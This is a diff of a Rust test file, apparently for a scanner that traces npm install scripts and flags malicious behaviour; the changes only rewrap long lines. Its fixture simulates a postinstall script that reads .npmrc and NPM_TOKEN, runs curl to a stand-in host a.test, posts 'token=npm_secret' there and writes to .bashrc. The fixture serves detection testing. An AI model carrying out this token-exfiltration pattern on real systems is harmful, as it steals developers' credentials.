@@ -18,30 +18,70 @@ fn trace() -> Trace {
     recorder.start_run("postinstall", "developer-linux", "node setup.js");
     let spawn = recorder.record(Kind::ProcSpawn, "node setup.js", 40, 0, Vec::new());
     recorder.detail(spawn, "child", "41");
-    recorder.record(Kind::FileRead, format!("{ROOT}/setup.js"), 41, 1, Vec::new());
+    recorder.record(
+        Kind::FileRead,
+        format!("{ROOT}/setup.js"),
+        41,
+        1,
+        Vec::new(),
+    );
     recorder.record(Kind::FileRead, "/home/u/.npmrc", 41, 2, at("setup.js", 3));
-    recorder.record(Kind::FileRead, "/etc/\u{1b}[31mhosts", 41, 2, at("setup.js", 3));
+    recorder.record(
+        Kind::FileRead,
+        "/etc/\u{1b}[31mhosts",
+        41,
+        2,
+        at("setup.js", 3),
+    );
     recorder.record(Kind::EnvList, "*", 41, 3, at("setup.js", 4));
     recorder.record(Kind::EnvRead, "NPM_TOKEN", 41, 3, at("setup.js", 4));
     recorder.record(Kind::EnvRead, "CI", 41, 3, at("setup.js", 4));
     for child in ["42", "43"] {
-        let spawn = recorder.record(Kind::ProcSpawn, "curl https://a.test/\u{202e}", 41, 4, Vec::new());
+        let spawn = recorder.record(
+            Kind::ProcSpawn,
+            "curl https://a.test/\u{202e}",
+            41,
+            4,
+            Vec::new(),
+        );
         recorder.detail(spawn, "child", child);
-        recorder.record(Kind::ProcExit, "0", child.parse().unwrap_or(0), 5, Vec::new());
+        recorder.record(
+            Kind::ProcExit,
+            "0",
+            child.parse().unwrap_or(0),
+            5,
+            Vec::new(),
+        );
     }
     recorder.record(Kind::NetDns, "only.test", 42, 4, Vec::new());
     recorder.record(Kind::NetDns, "a.test", 42, 4, Vec::new());
     recorder.record(Kind::NetConnect, "a.test:443", 42, 4, Vec::new());
     let sent = recorder.record(Kind::NetSend, "a.test:443", 42, 5, at("setup.js", 9));
     recorder.attach(sent, "token=npm_secret");
-    recorder.record(Kind::NetHttp, "POST https://a.test/x", 42, 5, at("setup.js", 9));
-    recorder.record(Kind::FileWrite, "/home/u/.bashrc", 41, 6, at("setup.js", 12));
+    recorder.record(
+        Kind::NetHttp,
+        "POST https://a.test/x",
+        42,
+        5,
+        at("setup.js", 9),
+    );
+    recorder.record(
+        Kind::FileWrite,
+        "/home/u/.bashrc",
+        41,
+        6,
+        at("setup.js", 12),
+    );
     let gone = recorder.record(Kind::FileDelete, "/home/u/x", 41, 6, at("setup.js", 12));
     recorder.settle(gone, Outcome::Error("ENOENT".into()));
     recorder.record(Kind::ProcExit, "1", 41, 7, Vec::new());
     recorder.end_run(RunEnd::Failed, "exit code 1");
     for entry in 0..5 {
-        recorder.start_run("import", "developer-linux", &format!("require('sample/{entry}')"));
+        recorder.start_run(
+            "import",
+            "developer-linux",
+            &format!("require('sample/{entry}')"),
+        );
         recorder.end_run(RunEnd::Completed, "");
     }
     let (runs, events, blobs) = recorder.finish();
@@ -112,7 +152,11 @@ fn a_clean_report_is_short() {
     let mut trace = trace();
     trace.events.clear();
     trace.runs.retain(|run| run.end == RunEnd::Completed);
-    let text = render(&result(&trace, &[]), &Summary::of(&trace), Palette::default());
+    let text = render(
+        &result(&trace, &[]),
+        &Summary::of(&trace),
+        Palette::default(),
+    );
     insta::assert_snapshot!(text);
 }
 
@@ -160,7 +204,10 @@ fn colours_are_closed_on_the_same_line() {
     let text = render(&result(&trace, &[finding()]), &Summary::of(&trace), palette);
     assert!(text.contains("\u{1b}[1;31mMALICIOUS\u{1b}[0m"));
     for line in text.lines() {
-        let (all, ends) = (line.matches('\u{1b}').count(), line.matches("\u{1b}[0m").count());
+        let (all, ends) = (
+            line.matches('\u{1b}').count(),
+            line.matches("\u{1b}[0m").count(),
+        );
         assert_eq!(all, 2 * ends, "{line:?}");
     }
 }
@@ -171,7 +218,10 @@ fn places_are_relative_to_the_package() {
     let result = result(&trace, &[finding()]);
     let at = result.findings[0].at.as_ref().map(ToString::to_string);
     assert_eq!(at.as_deref(), Some("setup.js:9:5"));
-    assert_eq!(inside("/home/u/app/node_modules/sample2/x", ROOT), "/home/u/app/node_modules/sample2/x");
+    assert_eq!(
+        inside("/home/u/app/node_modules/sample2/x", ROOT),
+        "/home/u/app/node_modules/sample2/x"
+    );
 }
 
 #[test]
